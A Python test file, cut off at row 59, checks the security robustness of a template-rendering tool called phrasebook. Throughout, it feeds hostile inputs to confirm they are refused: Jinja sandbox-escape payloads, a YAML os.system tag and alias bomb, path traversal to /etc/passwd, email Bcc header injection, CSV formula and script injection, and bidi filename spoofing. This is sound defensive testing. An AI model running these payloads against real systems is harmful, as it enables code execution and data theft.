"""The reliability catalogue (`shared/notes/reliability-catalogue.md`, section 10), one case per row.

Each case is named after its row (`row 49 …`), so a regression names the row it breaks.
Every case is a black-box check through the command line or the library; rows that do
not apply to phrasebook's design (`pack install`, attachments, HTML output) assert the
design fact that makes them not apply. Every command run here also keeps the two
invariants of the catalogue: no traceback, and no raw ESC (or other control bytes that
came from data) on the terminal.
"""

from __future__ import annotations

import csv
import email
import json
import os
import resource
import shutil
import signal
import subprocess
import sys
import time
import unicodedata
from collections.abc import Callable
from email import policy
from pathlib import Path
from typing import Any

import pytest
from batchkit import COLUMNS, GOOD, PACK_SPEC, build_tree, invoice_pack, row, write_csv
from click.testing import CliRunner, Result
from conftest import TODAY

import phrasebook
from phrasebook.cli import cli

ROOT = Path(__file__).resolve().parent.parent
TODAY_ARG = ["--today", TODAY.isoformat()]
SECRET = "canary-4711-do-not-print"
CANARY_TEXT = "CANARY-FILE-CONTENT"
_CONTROL = {chr(c) for c in [*range(0, 9), *range(11, 32), *range(0x7F, 0xA0)]}


class Kit:
    """What every row's check needs: a working directory, the command line, a canary."""

    def __init__(self, tmp_path: Path) -> None:
        self.tmp = tmp_path
        self.runner = CliRunner(env={"PHRASEBOOK_LANG": "en"})
        self.canary = tmp_path / "canary.txt"
        self.canary.write_text(CANARY_TEXT, encoding="utf-8")
        self.out = tmp_path / "out"

    # --- running ---------------------------------------------------------------------------

    def cli(self, *args: str, env: dict[str, str] | None = None, input: Any = None) -> Result:
        result = self.runner.invoke(cli, list(args), env=env, input=input)
        self.clean(result.stdout + result.stderr)
        return result

    @staticmethod
    def clean(text: str) -> None:
        """The catalogue's invariants (a) and (b)."""
        assert "Traceback" not in text, text
        assert not _CONTROL & set(text), repr(text)

    def render(self, *args: str, scenario: str = "deadline-offer", lang: str = "de") -> Result:
        return self.cli("render", scenario, "--lang", lang, "--example", *TODAY_ARG, *args)

    def pack(self, de_body: str | None = None, spec: str = PACK_SPEC, **files: str) -> Path:
        root = self.tmp / "pack"
        shutil.rmtree(root, ignore_errors=True)
        if de_body is None:
            invoice_pack(root, spec=spec)
        else:
            invoice_pack(root, de=body(de_body), spec=spec)
        build_tree(root, files)
        return root

    def pack_render(self, *sets: str, fmt: str = "text") -> Result:
        values = ["recipient.last_name=Müller", "recipient.gender=female", "sender.name=Anna",
                  "amount=10", *sets]
        args = [arg for value in values for arg in ("--set", value)]
        return self.cli("--pack", "pack", "render", "invoice-reminder", "--lang", "de", "-f", fmt,
                        *args, *TODAY_ARG)

    def batch(self, rows: list[Any], *args: str, columns: list[str] = COLUMNS,
              scenario: str = "deadline-offer", **options: Any) -> Result:
        write_csv(self.tmp / "rows.csv", rows, columns=columns, **options)
        return self.cli("batch", scenario, "rows.csv", "--lang", "de", "-o", "out", *args, *TODAY_ARG)

    def files(self) -> list[str]:
        return sorted(p.name for p in self.out.iterdir()) if self.out.is_dir() else []

    def documents(self) -> dict[str, str]:
        if not self.out.is_dir():
            return {}
        return {p.name: p.read_text("utf-8") for p in self.out.iterdir()
                if p.suffix in (".md", ".eml", ".txt")}

    def report(self) -> dict[str, Any]:
        return json.loads((self.out / "report.json").read_text("utf-8"))  # type: ignore[no-any-return]

    def canary_checks(self, *texts: str) -> None:
        """§8.2: the canary file is untouched, the secret appears nowhere."""
        assert self.canary.read_text("utf-8") == CANARY_TEXT
        for text in (*texts, *self.documents().values()):
            assert SECRET not in text and CANARY_TEXT not in text

    def process(self, *args: str, preexec: Callable[[], None] | None = None) -> subprocess.Popen[str]:
        env = dict(os.environ, PYTHONPATH=str(ROOT), PHRASEBOOK_LANG="en",
                   PHRASEBOOK_CONFIG_DIR=str(self.tmp / "config"))
        return subprocess.Popen([sys.executable, "-m", "phrasebook", *args], cwd=self.tmp, env=env,
                                stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                                preexec_fn=preexec)


def body(expression: str) -> str:
    return (
        '{% extends "_letter.jinja" %}\n{% set subject_line %}Betreff{% endset %}\n'
        "{% block body %}\n" + expression + "\n{% endblock %}\n"
    )


def eml(text: str) -> Any:
    return email.message_from_bytes(text.encode("ascii"), policy=policy.default)


#: The catalogue: row number → (what it is about, the check).
ROWS: dict[int, tuple[str, Callable[[Kit], None]]] = {}


def catalogue(number: int, title: str) -> Callable[[Callable[[Kit], None]], Callable[[Kit], None]]:
    def register(check: Callable[[Kit], None]) -> Callable[[Kit], None]:
        assert number not in ROWS, number
        ROWS[number] = (title, check)
        return check

    return register


# --- template packs and the sandbox (rows 1–24) ------------------------------------------------


@catalogue(1, "SSTI payloads are refused")
def _row_1(kit: Kit) -> None:
    for payload in [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ lipsum.__globals__ }}",
        "{{ self.__init__.__globals__ }}",
    ]:
        kit.pack(payload)
        result = kit.pack_render()
        assert result.exit_code != 0, payload
        assert "invoice-reminder.jinja" in result.stderr, result.stderr
        assert "uid=" not in result.output
        kit.canary_checks(result.output)


@catalogue(2, "CVE-2025-27516: attr('format') cannot reach the environment")
def _row_2(kit: Kit) -> None:
    kit.pack("{{ ('{0.__init__.__globals__[os].environ[PHRASEBOOK_CANARY_SECRET]}'|attr('format'))(cycler) }}")
    result = kit.pack_render()
    assert result.exit_code != 0
    kit.canary_checks(result.output)


@catalogue(3, "a stored str.format reaches no filter")
def _row_3(kit: Kit) -> None:
    from phrasebook.catalog import Pack
    from phrasebook.l10n import resolve_language

    kit.pack()
    names = sorted(Pack(kit.tmp / "pack").environment(resolve_language("de")).filters)
    for name in ["money", "date", "listing", "mid_sentence", "on_day", "string", "join"]:
        assert name in names
        kit.pack("{% set f = '{0.__class__}'.format %}{{ f|" + name + " }}")
        result = kit.pack_render()
        assert result.exit_code != 0, name
        assert "<class" not in result.output, name


@catalogue(4, "CVE-2024-56201: a template file name is never evaluated")
def _row_4(kit: Kit) -> None:
    evil = "x{__import__(chr(111)+chr(115)).getpid()}.jinja"
    kit.pack("{% from '" + evil + "' import nothere %}", **{f"templates/de/{evil}": "x"})
    result = kit.pack_render()
    assert result.exit_code != 0
    assert "not found" in result.stderr
    assert str(os.getpid()) not in result.output


@catalogue(5, "jinja2 is at least 3.1.6, and the package requires it")
def _row_5(kit: Kit) -> None:
    import importlib.metadata

    version = tuple(int(p) for p in importlib.metadata.version("jinja2").split(".")[:3])
    assert version >= (3, 1, 6)
    assert '"jinja2>=3.1.6"' in (ROOT / "pyproject.toml").read_text("utf-8")


@catalogue(6, "the context holds plain data only: no capable objects")
def _row_6(kit: Kit) -> None:
    for expression in [
        "{{ today.__class__ }}", "{{ client.__init__ }}", "{{ recipient|attr('items') }}",
        "{{ lang.__class__.__mro__ }}", "{% for k in recipient|map(attribute='__class__') %}{{ k }}{% endfor %}",
        "{% set p = today.replace %}{{ p }}", "{{ fmt['__class__'] }}",
    ]:
        kit.pack(expression)
        result = kit.pack_render()
        assert result.exit_code != 0, expression
        assert "<class" not in result.output and "<built-in" not in result.output, expression
    kit.canary_checks()


@catalogue(7, "a symlink out of the pack is refused, its target never shown")
def _row_7(kit: Kit) -> None:
    kit.pack("{% include 'partial.jinja' %}")
    (kit.tmp / "pack" / "templates" / "de" / "partial.jinja").symlink_to(kit.canary)
    result = kit.pack_render()
    assert result.exit_code != 0
    assert "partial.jinja" in result.stderr
    kit.canary_checks(result.output)


@catalogue(8, "include and extends cannot leave the pack")
def _row_8(kit: Kit) -> None:
    for statement in ["{% include '../x' %}", "{% include '/etc/hostname' %}"]:
        kit.pack(statement)
        result = kit.pack_render()
        assert result.exit_code != 0 and "not found" in result.stderr, statement
    kit.pack()
    (kit.tmp / "pack" / "templates" / "de" / "invoice-reminder.jinja").write_text(
        "{% extends '../../base' %}", encoding="utf-8")
    result = kit.pack_render()
    assert result.exit_code != 0 and "not found" in result.stderr


@catalogue(9, "not applicable: phrasebook installs no pack archives (no 'pack install')")
def _row_9(kit: Kit) -> None:
    # Packs are directories the user copies; nothing unpacks an archive anywhere.
    before = sorted(p.name for p in kit.tmp.iterdir())
    result = kit.cli("pack", "install", "x.tar")
    assert result.exit_code == 2 and "No such command 'pack'" in result.stderr
    assert sorted(p.name for p in kit.tmp.iterdir()) == before
    sources = [p.read_text("utf-8") for p in ROOT.joinpath("phrasebook").rglob("*.py")]
    assert sources and not any("extractall" in text or "import tarfile" in text for text in sources)


@catalogue(10, "executable pack features are never run (packs are data)")
def _row_10(kit: Kit) -> None:
    touched = kit.tmp / "hooked"
    kit.pack(None, **{"hooks/pre_render.sh": f"#!/bin/sh\ntouch {touched}\n",
                      "filters.py": f"open({str(touched)!r}, 'w')\n"})
    (kit.tmp / "pack" / "hooks" / "pre_render.sh").chmod(0o755)
    assert kit.pack_render().exit_code == 0
    check = kit.cli("check", "pack", *TODAY_ARG)
    assert "hooks: not part of a pack; ignored (nothing in a pack is run)" in check.output
    assert not touched.exists()
    kit.pack(None, spec=PACK_SPEC + "extensions: [jinja2.ext.do]\n")
    refused = kit.pack_render()
    assert refused.exit_code != 0 and "unknown key 'extensions'" in refused.stderr


@catalogue(11, "an output bomb is stopped with the limit named; other rows go on")
def _row_11(kit: Kit) -> None:
    kit.pack("{% if amount > 100 %}{{ 'x' * 10**9 }}{% endif %}ok")
    started = time.monotonic()
    rows = [{"recipient.last_name": n, "recipient.gender": "female", "sender.name": "A", "amount": a}
            for n, a in (("Big", "1000"), ("Small", "10"))]
    result = kit.batch(rows, "--pack", "pack", scenario="invoice-reminder",
                       columns=["recipient.last_name", "recipient.gender", "sender.name", "amount"])
    assert time.monotonic() - started < 30
    assert result.exit_code == 1
    assert "output limit" in result.stderr and "invoice-reminder.jinja:4" in result.stderr
    assert kit.files() == ["report.csv", "report.json", "small.md"]


@catalogue(12, "huge ranges and numbers are template errors with file:line")
def _row_12(kit: Kit) -> None:
    for expression in ["{{ range(10**6) }}", "{{ 10**100000 }}"]:
        kit.pack(expression)
        result = kit.pack_render()
        assert result.exit_code == 1, expression
        assert "invoice-reminder.jinja:4" in result.stderr, result.stderr


@catalogue(13, "a template syntax error fails once, before any row")
def _row_13(kit: Kit) -> None:
    kit.pack()
    (kit.tmp / "pack" / "templates" / "de" / "invoice-reminder.jinja").write_text(
        body("{{ amount + }}"), encoding="utf-8")
    result = kit.batch([{"amount": "1"}], "--pack", "pack", scenario="invoice-reminder",
                       columns=["amount"])
    assert result.exit_code != 0
    assert "invoice-reminder.jinja:4:" in result.stderr
    assert kit.files() == []


@catalogue(14, "a typo'd variable is named with template:line before any row")
def _row_14(kit: Kit) -> None:
    kit.pack("{{ recipient.nmae }}")
    result = kit.batch([{"amount": "1"}], "--pack", "pack", scenario="invoice-reminder",
                       columns=["amount"])
    assert result.exit_code != 0
    assert "invoice-reminder.jinja:4" in result.stderr and "'recipient.nmae'" in result.stderr
    assert not kit.documents()


@catalogue(15, "an optional parameter left out is a defined None; an undeclared one is an error")
def _row_15(kit: Kit) -> None:
    spec = PACK_SPEC + "  vip:\n    type: bool\n    required: false\n    help: {de: VIP, en: VIP}\n"
    kit.pack("{% if vip %}VIP{% else %}normal{% endif %}", spec=spec)
    result = kit.pack_render()
    assert result.exit_code == 0 and "normal" in result.stdout
    kit.pack("{% if vipp %}VIP{% endif %}", spec=spec)
    check = kit.cli("check", "pack", *TODAY_ARG)
    assert "'vipp' is not a parameter (did you mean 'vip'?)" in check.output


@catalogue(16, "a short ragged row is a row error; 'None' never reaches a document")
def _row_16(kit: Kit) -> None:
    result = kit.batch([row(), list(GOOD.values())[:-1], row(recipient__last_name="Weber")])
    assert result.exit_code == 1
    assert "rows.csv:3: expected 7 fields, got 6" in result.stderr
    assert len(kit.documents()) == 2
    assert not any("None" in text.split() for text in kit.documents().values())


@catalogue(17, "an undefined value inside a literal is an error, never 'Undefined'")
def _row_17(kit: Kit) -> None:
    for expression in ["{{ [missing] }}", "{{ {'a': missing} }}"]:
        kit.pack(expression)
        result = kit.pack_render()
        assert result.exit_code != 0 and "Undefined" not in result.stdout, expression


@catalogue(18, "an empty or blank required value is named with column and row")
def _row_18(kit: Kit) -> None:
    result = kit.batch([row(deliverable=""), row(deliverable="   ", recipient__last_name="B")])
    assert result.exit_code == 1
    assert "rows.csv:2: deliverable: missing" in result.stderr
    assert "rows.csv:3: deliverable: missing" in result.stderr
    assert kit.documents() == {}


@catalogue(19, "unknown and missing columns are listed before any row, with a hint")
def _row_19(kit: Kit) -> None:
    columns = [("Emial" if c == "recipient.email" else c) for c in COLUMNS if c != "deliverable"]
    result = kit.batch([[GOOD.get(c, "x") for c in columns]], columns=columns)
    assert result.exit_code == 2
    assert "unknown column 'Emial'" in result.stderr and "missing column 'deliverable'" in result.stderr
    assert kit.files() == []


@catalogue(20, "HTML escapes every user value; an .eml stays plain text")
def _row_20(kit: Kit) -> None:
    result = kit.render("--format", "html", "--set", "deliverable=<script>alert(1)</script>")
    assert result.exit_code == 0, result.stderr
    assert "<script>" not in result.stdout and "&lt;script&gt;" in result.stdout
    message = eml(phrasebook.render("deadline-offer", "de", _example(), today=TODAY, fmt="eml").text)
    assert [part.get_content_type() for part in message.walk()] == ["text/plain"]


@catalogue(21, "text and the text part of .eml are not HTML-escaped")
def _row_21(kit: Kit) -> None:
    values = _example(recipient={"gender": "female", "last_name": "Müller & <Söhne>"})
    text = _render(values).text
    assert "Müller & <Söhne>" in text and "&amp;" not in text
    part = eml(_render(values, "eml").text)
    assert "Müller & <Söhne>" in part.get_body(("plain",)).get_content()


@catalogue(22, "Markdown and TeX metacharacters in values are escaped")
def _row_22(kit: Kit) -> None:
    name = "**x** [Klick](javascript:alert(1)) <img src=x onerror=alert(1)> \\input{/etc/passwd} $x$ &amp; @key"
    text = _render(_example(deliverable=name), "md").text
    assert "\\*\\*x\\*\\* \\[Klick\\](javascript:alert(1)) \\<img src=x onerror=alert(1)\\>" in text
    assert "\\\\input\\{/etc/passwd\\} \\$x\\$ \\&amp; \\@key" in text
    if shutil.which("pandoc"):
        native = subprocess.run(["pandoc", "-f", "markdown", "-t", "native"], input=text,
                                capture_output=True, text=True, check=True).stdout
        for node in ("Link", "RawInline", "RawBlock", "Math", "Cite", "Strong"):
            assert node not in native, node


@catalogue(23, "a line break in a single-line value is refused; front matter stays intact")
def _row_23(kit: Kit) -> None:
    for value in ["ACME\n---\nheader-includes: x", "ACME\n# Heading"]:
        with pytest.raises(phrasebook.errors.InvalidParams, match="deliverable"):
            phrasebook.render("deadline-offer", "de", _example(deliverable=value), today=TODAY, fmt="md")
    text = phrasebook.render("deadline-offer", "de", _example(), today=TODAY, fmt="md").text
    import yaml

    assert set(yaml.safe_load(text.split("---\n")[1])) == {"title", "author", "date", "lang"}


@catalogue(24, "bidi controls: a warning in templates, stripped from file names")
def _row_24(kit: Kit) -> None:
    kit.pack("Betrag\u202e{{ amount|money }}")
    check = kit.cli("check", "pack", *TODAY_ARG)
    assert "invoice-reminder.jinja:4: contains the invisible control character U+202E" in check.output
    # In data phrasebook's policy is stricter than stripping: such a value is refused.
    result = kit.batch([row(recipient__last_name="Evil\u202egpj.exe"), row()])
    assert "rows.csv:2: recipient.last_name:" in result.stderr and "U+202E" in result.stderr
    assert not [n for n in kit.files() if "\u202e" in n] and len(kit.documents()) == 1


# --- parameter YAML (rows 25–34) ----------------------------------------------------------------


def _params(kit: Kit, text: str | bytes) -> Result:
    path = kit.tmp / "params.yaml"
    path.write_bytes(text if isinstance(text, bytes) else text.encode("utf-8"))
    return kit.render("--params", "params.yaml")


@catalogue(25, "a python tag is refused with its place; nothing runs")
def _row_25(kit: Kit) -> None:
    touched = kit.tmp / "CANARY"
    result = _params(kit, f"deadline: !!python/object/apply:os.system ['touch {touched}']\n")
    assert result.exit_code == 2 and "params.yaml:1:" in result.stderr
    assert not touched.exists()


@catalogue(26, "an alias bomb is refused at once")
def _row_26(kit: Kit) -> None:
    bomb = "a: &a [x, x]\n" + "".join(f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}, *{chr(97 + i)}]\n"
                                        for i in range(8))
    started = time.monotonic()
    result = _params(kit, bomb)
    assert time.monotonic() - started < 5
    assert result.exit_code == 2 and "aliases" in result.stderr and "params.yaml:2" in result.stderr


@catalogue(27, "deep nesting is a clean error, never a crash")
def _row_27(kit: Kit) -> None:
    (kit.tmp / "params.yaml").write_text("a: " + "[" * 100_000 + "\n", encoding="utf-8")
    process = kit.process("render", "deadline-offer", "--lang", "de", "--params", "params.yaml")
    _stdout, stderr = process.communicate(timeout=60)
    assert process.returncode == 2, stderr
    assert "nested too deeply" in stderr and "Traceback" not in stderr


@catalogue(28, "a parameter file over the limit is refused before parsing")
def _row_28(kit: Kit) -> None:
    path = kit.tmp / "params.yaml"
    with path.open("wb") as handle:
        handle.truncate(50 * 1024 * 1024)
    result = kit.render("--params", "params.yaml")
    assert result.exit_code == 2
    assert "params.yaml: file is 52,428,800 bytes; parameter files are limited to" in result.stderr


@catalogue(29, "YAML 1.1 traps reach the template exactly as written")
def _row_29(kit: Kit) -> None:
    spec = PACK_SPEC + "".join(
        f"  {n}:\n    type: str\n    required: false\n    help: {{de: x, en: x}}\n"
        for n in ("country", "plz", "zeit", "version", "name", "plz2"))
    kit.pack("{{ country }} {{ plz }} {{ zeit }} {{ version }} {{ name }} {{ plz2 }}", spec=spec)
    (kit.tmp / "params.yaml").write_text(
        "recipient: {last_name: M, gender: female}\nsender: {name: A}\namount: 1\n"
        "country: NO\nplz: 01067\nzeit: 12:30\nversion: 1.10\nname: Null\nplz2: 08001\n", encoding="utf-8")
    result = kit.cli("--pack", "pack", "render", "invoice-reminder", "--lang", "de", "--params",
                     "params.yaml", *TODAY_ARG)
    assert result.exit_code == 0, result.stderr
    assert "NO 01067 12:30 1.10 Null 08001" in result.stdout


@catalogue(30, "a duplicate key names both lines")
def _row_30(kit: Kit) -> None:
    result = _params(kit, "deadline: 2026-12-02\ndeadline: 2026-12-03\n")
    assert result.exit_code == 2
    assert "params.yaml:2" in result.stderr and "duplicate key 'deadline' (first given on line 1)" in result.stderr


@catalogue(31, "an unknown key gets 'did you mean'")
def _row_31(kit: Kit) -> None:
    result = _params(kit, "dedline: 2026-12-02\n")
    assert result.exit_code == 2
    assert "dedline: unknown parameter (did you mean 'deadline'?)" in result.stderr


@catalogue(32, "YAML syntax errors name file:line:col")
def _row_32(kit: Kit) -> None:
    for text in ["a:\n\tb: 1\n", "a: 'unclosed\n"]:
        result = _params(kit, text)
        assert result.exit_code == 2
        assert "params.yaml:" in result.stderr and result.stderr.count(":") >= 3


@catalogue(33, "cp1252 parameters: the byte is named, UTF-8 suggested, no mojibake")
def _row_33(kit: Kit) -> None:
    result = _params(kit, "deliverable: das Gerüst\n".encode("cp1252"))
    assert result.exit_code == 2
    assert "params.yaml:1: byte 20 (0xfc) is not UTF-8; save the file as UTF-8" in result.stderr
    assert "Ã" not in result.output and "\ufffd" not in result.output


@catalogue(34, "date forms: ISO and German read alike; ambiguous ones refused with the formats")
def _row_34(kit: Kit) -> None:
    iso = kit.render("--set", "deadline=2026-12-02")
    german = kit.render("--set", "deadline=02.12.2026")
    assert iso.exit_code == german.exit_code == 0 and iso.stdout == german.stdout
    for value in ["2026-12-2", "2.12.26"]:
        refused = kit.render("--set", f"deadline={value}")
        assert refused.exit_code == 2
        assert "deadline:" in refused.stderr and "YYYY-MM-DD or DD.MM.YYYY" in refused.stderr


# --- CSV input (rows 35–46) ---------------------------------------------------------------------


@catalogue(35, "a BOM does not hide the first column")
def _row_35(kit: Kit) -> None:
    result = kit.batch([row()], bom=True)
    assert result.exit_code == 0, result.stderr
    assert "Frau Dr." in next(iter(kit.documents().values())) or "Frau Müller" in next(iter(kit.documents().values()))


@catalogue(36, "German Excel CSV: a hint without --encoding, correct umlauts with it")
def _row_36(kit: Kit) -> None:
    rows = [row(recipient__first_name="Jürgen")]
    first = kit.batch(rows, encoding="cp1252", delimiter=";")
    assert first.exit_code == 2 and "--encoding cp1252" in first.stderr
    again = kit.cli("batch", "deadline-offer", "rows.csv", "--lang", "de", "-o", "out",
                    "--encoding", "cp1252", *TODAY_ARG)
    assert again.exit_code == 0, again.stderr
    (text,) = kit.documents().values()
    assert "Jürgen" in kit.report()["rows"][0]["recipient"] and "Ã" not in text and "\ufffd" not in text


@catalogue(37, "one column found: the delimiter is suggested")
def _row_37(kit: Kit) -> None:
    result = kit.batch([row()], "--delimiter", ",", delimiter=";")
    assert result.exit_code == 2 and "only one column was found; try --delimiter ';'" in result.stderr


@catalogue(38, "an unterminated quote names the line where the record starts")
def _row_38(kit: Kit) -> None:
    text = ",".join(COLUMNS) + "\r\n" + ",".join(GOOD.values()) + "\r\n" + '"Müller,Katrin\r\nx,y\r\n'
    (kit.tmp / "rows.csv").write_text(text, encoding="utf-8")
    result = kit.cli("batch", "deadline-offer", "rows.csv", "--lang", "de", "-o", "out", *TODAY_ARG)
    assert result.exit_code != 0
    assert "rows.csv:3" in result.stderr and "unterminated" in result.stderr


@catalogue(39, "ragged rows are row errors; the others are written")
def _row_39(kit: Kit) -> None:
    result = kit.batch([row(), [*GOOD.values(), "extra"], row(recipient__last_name="Weber")])
    assert result.exit_code == 1 and "rows.csv:3: expected 7 fields, got 8" in result.stderr
    assert len(kit.documents()) == 2


@catalogue(40, "a duplicate column is refused before any row")
def _row_40(kit: Kit) -> None:
    result = kit.batch([[*GOOD.values(), "x"]], columns=[*COLUMNS, "deliverable"])
    assert result.exit_code == 2 and "duplicate column 'deliverable'" in result.stderr
    assert kit.files() == []


@catalogue(41, "whitespace around a header name is stripped with a warning")
def _row_41(kit: Kit) -> None:
    columns = [" deliverable" if c == "deliverable" else c for c in COLUMNS]
    result = kit.batch([list(GOOD.values())], columns=columns)
    assert result.exit_code == 0 and "Warning:" in result.stderr and "deliverable" in result.stderr


@catalogue(42, "blank lines and delimiter-only rows are skipped, not rendered")
def _row_42(kit: Kit) -> None:
    result = kit.batch([row(), [""] * 7, [], row(recipient__last_name="Weber")])
    assert result.exit_code == 0, result.stderr
    assert len(kit.documents()) == 2 and kit.report()["summary"]["skipped"] >= 1


@catalogue(43, "a header-only file: 'no data rows', exit 2")
def _row_43(kit: Kit) -> None:
    result = kit.batch([])
    assert result.exit_code == 2 and "no data rows in rows.csv" in result.stderr


@catalogue(44, "German amounts are strict: 1.234,50 yes, 1,234.50 no, 1.5 never 15 or 1.2345")
def _row_44(kit: Kit) -> None:
    kit.pack("{{ amount|money }}")
    assert "1.234,50\xa0€" in kit.pack_render("amount=1.234,50").stdout
    refused = kit.pack_render("amount=1,234.50")
    assert refused.exit_code == 2 and "amount: '1,234.50' expected an amount written like 1.234,50" in refused.stderr
    small = kit.pack_render("amount=1.5")  # refused, or read as the one reading it can have
    assert (small.exit_code == 2 and "amount:" in small.stderr) or "1,50\xa0€" in small.stdout
    assert "15,00" not in small.stdout and "1,23" not in small.stdout


@catalogue(45, "ambiguous and Excel dates are refused, naming row and column")
def _row_45(kit: Kit) -> None:
    result = kit.batch([row(deadline=v, recipient__last_name=f"K{i}")
                        for i, v in enumerate(["03/04/2026", "31.03.26", "45747"])])
    assert result.exit_code == 1
    for line in (2, 3, 4):
        assert f"rows.csv:{line}: deadline:" in result.stderr
    assert kit.documents() == {}


@catalogue(46, "NUL and ESC in a cell are refused with row and column; never in an output")
def _row_46(kit: Kit) -> None:
    result = kit.batch([row(recipient__last_name="Mül\x00ler"), row(recipient__first_name="\x1b[2J")])
    assert result.exit_code == 1
    assert "rows.csv:2: recipient.last_name:" in result.stderr and "U+0000" in result.stderr
    assert "rows.csv:3: recipient.first_name:" in result.stderr and "U+001B" in result.stderr
    for path in kit.out.iterdir():
        data = path.read_bytes()
        assert b"\x00" not in data and b"\x1b" not in data, path


# --- reports ------------------------------------------------------------------------------------


@catalogue(47, "report.csv is formula-safe; report.json keeps the value")
def _row_47(kit: Kit) -> None:
    evil = '=HYPERLINK("http://x/?"&A1;"Klick")'
    kit.batch([row(recipient__first_name="", recipient__last_name=evil, deadline="x"),
               row(recipient__first_name="", recipient__last_name="@SUM(A1)", deadline="x")])
    with (kit.out / "report.csv").open(encoding="utf-8-sig", newline="") as handle:
        cells = list(csv.reader(handle))
    assert [line[4] for line in cells[1:]] == ["'" + evil, "'@SUM(A1)"]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for line in cells for cell in line)
    assert [r["recipient"] for r in kit.report()["rows"]] == [evil, "@SUM(A1)"]


# --- email (rows 48–57) -------------------------------------------------------------------------


def _render(values: dict[str, Any], fmt: str = "text") -> phrasebook.Document:
    """Render hostile values on purpose: text that only looks like an unfilled placeholder
    (``[Klick]``, ``<Söhne>``) is what these rows are about, so it is let through."""
    try:
        return phrasebook.render("deadline-offer", "de", values, today=TODAY, fmt=fmt)
    except phrasebook.errors.InvalidParams as exc:
        if "placeholder" not in str(exc):
            raise
        return phrasebook.render("deadline-offer", "de", values, today=TODAY, fmt=fmt,  # type: ignore[call-arg]
                                 allow_placeholders=True)


def _example(**changes: Any) -> dict[str, Any]:
    from samples import example

    values = example("deadline-offer", "de")
    values.update(changes)
    return values


def _eml_refused(**changes: Any) -> str:
    with pytest.raises(phrasebook.errors.InvalidInput) as caught:
        phrasebook.render("deadline-offer", "de", _example(**changes), today=TODAY, fmt="eml")
    return str(caught.value)


@catalogue(48, "line breaks in the subject refuse the row; no .eml for it")
def _row_48(kit: Kit) -> None:
    for bad in ["a\nBcc: x@example.com", "a\rb", "a\r\nb", "a\x0bb", "a\x0cb", "a\x85b", "a\u2028b"]:
        assert "subject" in _eml_refused(subject=bad), repr(bad)
    kit.batch([row(subject="Frist\nBcc: evil@example.com"), row(recipient__last_name="Weber")],
              "--format", "eml", columns=[*COLUMNS, "subject"])
    assert kit.files() == ["report.csv", "report.json", "weber-katrin.eml"]


@catalogue(49, "CVE-2024-6923: an encoded word in the subject is refused")
def _row_49(kit: Kit) -> None:
    assert "subject" in _eml_refused(subject="=?UTF-8?Q?x=0ABcc:_evil@attacker.example?=")
    message = eml(phrasebook.render("deadline-offer", "de", _example(), today=TODAY, fmt="eml").text)
    assert "Bcc" not in message and len(message.get_all("Subject")) == 1


@catalogue(50, "a trailing newline in the subject is never emitted")
def _row_50(kit: Kit) -> None:
    try:
        text = phrasebook.render("deadline-offer", "de", _example(subject="Frist\n"), today=TODAY,
                                 fmt="eml").text
    except phrasebook.errors.InvalidParams as exc:
        assert "subject" in str(exc)
        return
    header = text.split("\n\n", 1)[0]
    assert "\n\n" not in header and not any(line.strip() == "" for line in header.splitlines())


@catalogue(51, "NUL in a header value is refused")
def _row_51(kit: Kit) -> None:
    assert "subject" in _eml_refused(subject="a\x00b")
    with pytest.raises(phrasebook.errors.InvalidParams, match="recipient"):
        phrasebook.render("deadline-offer", "de",
                          _example(recipient={"gender": "male", "last_name": "We\x00ber"}),
                          today=TODAY, fmt="eml")


@catalogue(52, "a non-ASCII display name is encoded and reads back exactly")
def _row_52(kit: Kit) -> None:
    values = _example(recipient={"gender": "male", "first_name": "Jürgen", "last_name": "Müller",
                                 "email": "j@example.de"})
    text = phrasebook.render("deadline-offer", "de", values, today=TODAY, fmt="eml").text
    assert text.isascii()
    assert eml(text)["To"].addresses[0].display_name == "Jürgen Müller"


@catalogue(53, "commas and quotes in a display name keep one recipient")
def _row_53(kit: Kit) -> None:
    for last in ['Müller, Jürgen', 'Jürgen "Jay" Müller']:
        values = _example(recipient={"gender": "male", "last_name": last, "email": "j@example.de"})
        message = eml(phrasebook.render("deadline-offer", "de", values, today=TODAY, fmt="eml").text)
        assert len(message["To"].addresses) == 1, last


@catalogue(54, "invalid addresses are row errors naming the column and value")
def _row_54(kit: Kit) -> None:
    bad = ["kunde@@example.de", "a@b@c.de", "kunde@example.de>", "not an email", "kunde@example"]
    result = kit.batch([row(recipient__email=v, recipient__last_name=f"K{i}") for i, v in enumerate(bad)]
                       + [row()], "--format", "eml")
    assert result.exit_code == 1
    for i, value in enumerate(bad):
        assert f"rows.csv:{i + 2}: recipient.email: {value!r}" in result.stderr
    assert kit.files() == ["mueller-katrin.eml", "report.csv", "report.json"]


@catalogue(55, "an IDN domain is punycoded, never an encoded word in the address")
def _row_55(kit: Kit) -> None:
    values = _example(recipient={"gender": "female", "last_name": "M", "email": "info@bücher.de"})
    text = phrasebook.render("deadline-offer", "de", values, today=TODAY, fmt="eml").text
    to = next(line for line in text.splitlines() if line.startswith("To:"))
    assert "xn--bcher-kva.de" in to and "=?" not in to.split("<")[-1]


@catalogue(56, "a non-ASCII local part is a clear error")
def _row_56(kit: Kit) -> None:
    with pytest.raises(phrasebook.errors.InvalidParams, match=r"recipient\.email"):
        phrasebook.render("deadline-offer", "de",
                          _example(recipient={"gender": "male", "last_name": "M", "email": "müller@example.de"}),
                          today=TODAY, fmt="eml")


@catalogue(57, "not applicable: drafts have no attachments (a pack cannot name one)")
def _row_57(kit: Kit) -> None:
    kit.pack(None, spec=PACK_SPEC + f"attachments: [{kit.canary}]\n")
    result = kit.pack_render(fmt="eml")
    assert result.exit_code != 0 and "unknown key 'attachments'" in result.stderr
    kit.canary_checks(result.output)


# --- output files (rows 58–70) ------------------------------------------------------------------


@catalogue(58, "'../../etc/x' and '/etc/passwd' stay inside the output directory")
def _row_58(kit: Kit) -> None:
    before = sorted(str(p) for p in kit.tmp.parent.iterdir())
    result = kit.batch([row(recipient__last_name="../../etc/x"), row(recipient__last_name="/etc/passwd")])
    assert result.exit_code == 0, result.stderr
    assert len([n for n in kit.files() if n.endswith(".md")]) == 2
    assert all((kit.out / n).resolve().parent == kit.out.resolve() for n in kit.files())
    assert sorted(str(p) for p in kit.tmp.parent.iterdir()) == before


@catalogue(59, "a slash in a name makes one file, no directory")
def _row_59(kit: Kit) -> None:
